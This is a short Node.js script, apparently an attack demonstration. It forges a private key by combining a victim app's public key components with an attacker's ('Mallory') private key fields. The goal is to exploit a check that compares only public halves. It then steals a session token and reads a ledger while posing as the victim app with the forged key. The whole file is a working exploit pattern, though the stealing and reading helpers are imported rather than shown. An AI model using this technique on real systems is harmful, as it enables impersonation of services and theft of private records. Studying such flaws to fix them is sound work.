import { createPrivateKey, createPublicKey } from 'node:crypto';
import { pem } from '../pem.js';
import { readLedger, stealSession } from './tools.js';

/** @param {import('node:crypto').KeyObject} key */
const jwkOf = (key) => key.export({ format: 'jwk' });

//#region forge
// Node compares public halves. So give it the app's public half, and
// what is Mallory's for the rest.
const theirs = jwkOf(createPublicKey(pem('tally-app.pem')));
const hers = jwkOf(createPrivateKey(pem('mallory-app.key.pem')));
const key = { ...hers, ...theirs }; // n and e are theirs
const forged = createPrivateKey({ key, format: 'jwk' });
//#endregion

const { token } = await stealSession();
await readLedger(token, {
  cert: pem('tally-app.pem'),
  key: String(forged.export({ type: 'pkcs8', format: 'pem' })),
});
